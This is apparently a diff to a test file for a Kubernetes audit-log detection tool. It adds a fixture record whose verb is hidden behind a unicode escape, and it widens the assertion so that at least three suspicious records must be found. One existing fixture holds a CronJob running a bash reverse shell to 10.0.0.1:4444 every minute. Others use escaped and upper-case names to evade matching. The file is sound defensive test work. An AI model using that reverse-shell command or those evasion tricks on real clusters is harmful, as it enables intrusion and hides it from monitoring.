@@ -105,6 +105,8 @@ before(async () => {
   const tricky = [
     '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"t-1","stage":"ResponseComplete","requestURI":"/apis/batch/v1/namespaces/x/cron\\u006aobs","verb":"create","user":{"username":"mallory"},"objectRef":{"resource":"cron\\u006aobs","namespace":"x","name":"e1","apiGroup":"batch","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"requestObject":{"kind":"CronJob","apiVersion":"batch\\/v1","metadata":{"name":"e1"},"spec":{"schedule":"*\\/1 * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"busybox:latest","command":["sh","-c","bash -i >& \\/dev\\/tcp\\/10.0.0.1\\/4444 0>&1"]}]}}}}}},"requestReceivedTimestamp":"2024-05-01T10:00:00.000000Z","stageTimestamp":"2024-05-01T10:00:00.010000Z"}',
     '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"t-2","stage":"ResponseComplete","requestURI":"/apis/batch/v1/namespaces/x/CRONJOBS","verb":"create","user":{"username":"mallory"},"objectRef":{"resource":"CronJobs","namespace":"x","name":"e2","apiGroup":"batch","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"requestReceivedTimestamp":"2024-05-01T10:00:01.000000Z","stageTimestamp":"2024-05-01T10:00:01.010000Z"}',
+    // The verb (a non-anchor clause of the prefilter's AND of ORs) behind an escape.
+    '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"t-3","stage":"ResponseComplete","requestURI":"/apis/batch/v1/namespaces/x/jobs","verb":"cr\\u0065ate","user":{"username":"mallory"},"objectRef":{"resource":"jobs","namespace":"x","name":"e3","apiGroup":"batch","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":201},"requestReceivedTimestamp":"2024-05-01T10:00:02.000000Z","stageTimestamp":"2024-05-01T10:00:02.010000Z"}',
   ];
   writeFileSync(join(dir, 'tricky.log'), `${tricky.join('\n')}\n`);
 });
@@ -117,7 +119,10 @@ test('generated log: prefilter on/off, 1 and 3 workers, and the reference agree'
     `the generated log has findings (${base.report.findings.length})`,
   );
   const tricky = base.report.findings.filter((f) => f.origin?.file.endsWith('tricky.log'));
-  assert.ok(tricky.length >= 2, 'the escaped and upper-case records are found');
+  assert.ok(
+    new Set(tricky.map((f) => (f.origin && 'line' in f.origin ? f.origin.line : 0))).size >= 3,
+    'the escaped and upper-case records are found',
+  );
   const on = await hunt({ paths, prefilter: true });
   assert.ok(
     on.decodedLines < on.lines / 4,
